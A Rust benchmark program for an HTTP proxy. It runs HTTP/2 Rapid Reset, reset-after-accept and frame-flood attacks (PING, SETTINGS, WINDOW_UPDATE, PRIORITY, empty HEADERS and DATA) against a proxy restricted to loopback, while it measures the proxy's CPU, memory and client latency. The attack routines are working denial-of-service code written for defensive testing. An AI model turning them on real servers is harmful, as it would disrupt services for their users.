//! The h2 attacks of catalog 1.24 and 1.29 against a running proxy, each for
//! a bounded time, while a normal HTTP/1 client measures its latency: the
//! evidence for the CPU bound the tests do not assert (they never measure
//! time). Not a criterion bench: `benches/attacks.sh` builds it with
//! `cargo bench --no-run`, starts the release binary and the simulator, and
//! runs it.
//!
//! `attacks --proxy ADDR --pid PID [--secs N]` runs, in turn: no attack
//! (the baseline), Rapid Reset before acceptance, resets after acceptance,
//! and the 1.29 floods; for each it prints the proxy's CPU seconds
//! (utime + stime from /proc/PID/stat) per second of attack, its resident
//! set, and the normal client's p50/p99. Loopback only; every loop ends at
//! its deadline.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::time::Instant;

use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper_util::client::legacy::Client;
use hyper_util::rt::TokioExecutor;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

#[path = "../tests/support/h2frames.rs"]
#[allow(dead_code, unreachable_pub)]
mod h2frames;

use h2frames::*;

/// Clock ticks per second of /proc/PID/stat (USER_HZ, 100 on Linux).
const TICKS: f64 = 100.0;

/// The normal client sends one request every this long.
const PROBE_EVERY: Duration = Duration::from_millis(10);

#[derive(Clone, Copy, Debug)]
enum Attack {
    None,
    RapidResetBeforeAccept,
    ResetAfterAccept,
    /// One 1.29 flood kind ([`FLOODS`]) alone.
    Flood(usize),
    /// All the 1.29 floods at once, one connection each.
    Floods,
}

/// The 1.29 flood kinds, by name.
const FLOODS: [&str; 6] = [
    "PING",
    "SETTINGS",
    "WINDOW_UPDATE",
    "PRIORITY churn",
    "zero-length HEADERS",
    "empty DATA",
];

impl Attack {
    fn name(self) -> String {
        match self {
            Attack::None => "none (baseline)".into(),
            Attack::RapidResetBeforeAccept => "1.24 rapid reset, before accept".into(),
            Attack::ResetAfterAccept => "1.24 reset after accept".into(),
            Attack::Flood(k) => format!("1.29 flood: {}", FLOODS[k]),
            Attack::Floods => "1.29 floods, 6 kinds at once".into(),
        }
    }
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let arg = |name: &str| {
        args.iter()
            .position(|a| a == name)
            .and_then(|i| args.get(i + 1))
            .unwrap_or_else(|| panic!("{name} is required"))
            .clone()
    };
    let proxy: SocketAddr = arg("--proxy").parse().expect("--proxy ADDR");
    let pid: u32 = arg("--pid").parse().expect("--pid PID");
    let secs: u64 = args
        .iter()
        .position(|a| a == "--secs")
        .and_then(|i| args.get(i + 1))
        .map_or(10, |s| s.parse().expect("--secs N"));
    assert!(proxy.ip().is_loopback(), "loopback only");
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    println!(
        "| attack | proxy CPU s per s | RSS MiB (peak so far) | normal client p50 ms | p99 ms | requests | attack connections |"
    );
    println!("|---|---|---|---|---|---|---|");
    let floods = (0..FLOODS.len()).map(Attack::Flood);
    let attacks = [
        Attack::None,
        Attack::RapidResetBeforeAccept,
        Attack::ResetAfterAccept,
    ]
    .into_iter()
    .chain(floods)
    .chain([Attack::Floods]);
    for attack in attacks {
        let row = measure(&runtime, proxy, pid, attack, Duration::from_secs(secs));
        println!("{row}");
    }
}

/// One row: `attack` on `runtime` for `run`, the normal client meanwhile
/// on a thread and runtime of its own, so that the attack's own work does
/// not show as the proxy's latency.
fn measure(
    runtime: &tokio::runtime::Runtime,
    proxy: SocketAddr,
    pid: u32,
    attack: Attack,
    run: Duration,
) -> String {
    let cpu_before = cpu_ticks(pid);
    let started = Instant::now();
    let deadline = started + run;
    let attacker = runtime.spawn(attack_until(proxy, attack, deadline));
    let probe = std::thread::spawn(move || {
        tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap()
            .block_on(probe_until(proxy, deadline))
    });
    let latencies = probe.join().unwrap();
    let connections = runtime.block_on(attacker).unwrap();
    let elapsed = started.elapsed().as_secs_f64();
    let cpu = (cpu_ticks(pid) - cpu_before) as f64 / TICKS / elapsed;
    let (rss, hwm) = (status_kib(pid, "VmRSS:"), status_kib(pid, "VmHWM:"));
    let pct = |p: f64| {
        let i = ((latencies.len() as f64 * p) as usize).min(latencies.len().saturating_sub(1));
        latencies
            .get(i)
            .map_or(f64::NAN, |d| d.as_secs_f64() * 1000.0)
    };
    format!(
        "| {} | {cpu:.3} | {:.1} ({:.1}) | {:.2} | {:.2} | {} | {connections} |",
        attack.name(),
        rss as f64 / 1024.0,
        hwm as f64 / 1024.0,
        pct(0.5),
        pct(0.99),
        latencies.len(),
    )
}

/// utime + stime of `pid`, in clock ticks.
fn cpu_ticks(pid: u32) -> u64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).expect("proxy running");
    // Fields after the command name (which may hold spaces) closing ")".
    let rest = &stat[stat.rfind(')').unwrap() + 2..];
    let fields: Vec<&str> = rest.split_whitespace().collect();
    fields[11].parse::<u64>().unwrap() + fields[12].parse::<u64>().unwrap()
}

fn status_kib(pid: u32, name: &str) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix(name))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap()
}

/// A normal HTTP/1 client: one GET every [`PROBE_EVERY`] on keep-alive
/// connections; the sorted latencies of those that succeeded.
async fn probe_until(proxy: SocketAddr, deadline: Instant) -> Vec<Duration> {
    let client: Client<_, Full<Bytes>> = Client::builder(TokioExecutor::new()).build_http();
    let url = format!("http://{proxy}/1/user/-/profile.json");
    let mut latencies = Vec::new();
    while Instant::now() < deadline {
        let sent = Instant::now();
        let req = http::Request::get(&url).body(Full::default()).unwrap();
        let answer = tokio::time::timeout(Duration::from_secs(5), async {
            let res = client.request(req).await.ok()?;
            let ok = res.status().is_success();
            res.into_body().collect().await.ok()?;
            ok.then_some(())
        });
        if let Ok(Some(())) = answer.await {
            latencies.push(sent.elapsed());
        }
        tokio::time::sleep(PROBE_EVERY.saturating_sub(sent.elapsed())).await;
    }
    latencies.sort();
    latencies
}

/// A raw h2c connection, its SETTINGS sent and acknowledged, with a task
/// that reads (and drops) everything the proxy sends.
async fn open(proxy: SocketAddr) -> Option<tokio::net::tcp::OwnedWriteHalf> {
    let stream = TcpStream::connect(proxy).await.ok()?;
    let (mut rd, mut wr) = stream.into_split();
    let mut hello = PREFACE.to_vec();
    hello.extend(frame(SETTINGS, 0, 0, &[]));
    hello.extend(frame(SETTINGS, 0x1, 0, &[]));
    // The connection's receive window wide open, so answers never stall.
    hello.extend(frame(WINDOW_UPDATE, 0, 0, &0x7000_0000u32.to_be_bytes()));
    wr.write_all(&hello).await.ok()?;
    tokio::spawn(async move {
        let mut sink = vec![0u8; 64 * 1024];
        while matches!(rd.read(&mut sink).await, Ok(n) if n > 0) {}
    });
    Some(wr)
}

/// Runs `attack` until `deadline`, reconnecting whenever the proxy closes;
/// the number of connections it used.
async fn attack_until(proxy: SocketAddr, attack: Attack, deadline: Instant) -> usize {
    match attack {
        Attack::None => {
            tokio::time::sleep_until(deadline).await;
            0
        }
        Attack::RapidResetBeforeAccept => {
            let hb = request_block("GET", "/1/user/-/profile.json");
            streams_until(proxy, deadline, |id| {
                let mut b = frame(HEADERS, END_STREAM | END_HEADERS, id, &hb);
                b.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
                (b, Vec::new())
            })
            .await
        }
        Attack::ResetAfterAccept => {
            // Upstream answers take 2 s: the proxy has accepted and
            // forwarded each stream by the time it is reset.
            let hb = request_block("GET", "/sim/slow/2000");
            streams_until(proxy, deadline, |id| {
                (
                    frame(HEADERS, END_STREAM | END_HEADERS, id, &hb),
                    frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()),
                )
            })
            .await
        }
        Attack::Flood(k) => flood_until(proxy, deadline, flood_kind(k)).await,
        Attack::Floods => {
            let kinds: Vec<_> = (0..FLOODS.len()).map(flood_kind).collect();
            let mut tasks = tokio::task::JoinSet::new();
            for kind in kinds {
                tasks.spawn(flood_until(proxy, deadline, kind));
            }
            let mut connections = 0;
            while let Some(n) = tasks.join_next().await {
                connections += n.unwrap();
            }
            connections
        }
    }
}

/// The frames of flood `k` ([`FLOODS`]), by their index on the connection.
fn flood_kind(k: usize) -> Box<dyn Fn(u32) -> Vec<u8> + Send + Sync> {
    match k {
        0 => Box::new(|_| frame(PING, 0, 0, &[7; 8])),
        1 => Box::new(|_| frame(SETTINGS, 0, 0, &[])),
        2 => Box::new(|_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
        // Churn over idle streams, each depending on the one before.
        3 => Box::new(|i| frame(PRIORITY, 0, 2 * i + 1, &[0, 0, 0, 0, 16])),
        // Empty, malformed header blocks on ever new streams.
        4 => Box::new(|i| frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, &[])),
        _ => {
            let post = request_block("POST", "/1/x");
            Box::new(move |i| {
                if i == 0 {
                    frame(HEADERS, END_HEADERS, 1, &post)
                } else {
                    frame(DATA, 0, 1, &[])
                }
            })
        }
    }
}

/// Batches of 100 streams, each `stream(id)`: the first bytes are sent for
/// the whole batch, then (after 20 ms, when any) the second. A new
/// connection whenever the proxy closes one or stops taking streams.
async fn streams_until(
    proxy: SocketAddr,
    deadline: Instant,
    stream: impl Fn(u32) -> (Vec<u8>, Vec<u8>),
) -> usize {
    let mut connections = 0;
    while Instant::now() < deadline {
        let Some(mut wr) = open(proxy).await else {
            tokio::time::sleep(Duration::from_millis(10)).await;
            continue;
        };
        connections += 1;
        let mut next = 1u32;
        // A connection is used for 10 000 streams at most.
        for _ in 0..100 {
            if Instant::now() >= deadline {
                break;
            }
            let (first, second): (Vec<u8>, Vec<u8>) = (next..next + 200)
                .step_by(2)
                .map(&stream)
                .fold((Vec::new(), Vec::new()), |(mut a, mut b), (x, y)| {
                    a.extend(x);
                    b.extend(y);
                    (a, b)
                });
            next += 200;
            let write = tokio::time::timeout(Duration::from_secs(1), wr.write_all(&first));
            if !matches!(write.await, Ok(Ok(()))) {
                break;
            }
            if !second.is_empty() {
                tokio::time::sleep(Duration::from_millis(20)).await;
                let write = tokio::time::timeout(Duration::from_secs(1), wr.write_all(&second));
                if !matches!(write.await, Ok(Ok(()))) {
                    break;
                }
            }
        }
    }
    connections
}

/// One kind of frame, as fast as the proxy takes it, reconnecting when it
/// closes; the number of connections used.
async fn flood_until(
    proxy: SocketAddr,
    deadline: Instant,
    kind: Box<dyn Fn(u32) -> Vec<u8> + Send + Sync>,
) -> usize {
    let mut connections = 0;
    while Instant::now() < deadline {
        let Some(mut wr) = open(proxy).await else {
            tokio::time::sleep(Duration::from_millis(10)).await;
            continue;
        };
        connections += 1;
        let mut i = 0u32;
        while Instant::now() < deadline && i < (1 << 30) {
            let batch: Vec<u8> = (i..i + 1024).flat_map(&kind).collect();
            i += 1024;
            let left = deadline.saturating_duration_since(Instant::now());
            match tokio::time::timeout(left, wr.write_all(&batch)).await {
                Ok(Ok(())) => {}
                Ok(Err(_)) => break,
                Err(_) => return connections,
            }
        }
    }
    connections
}
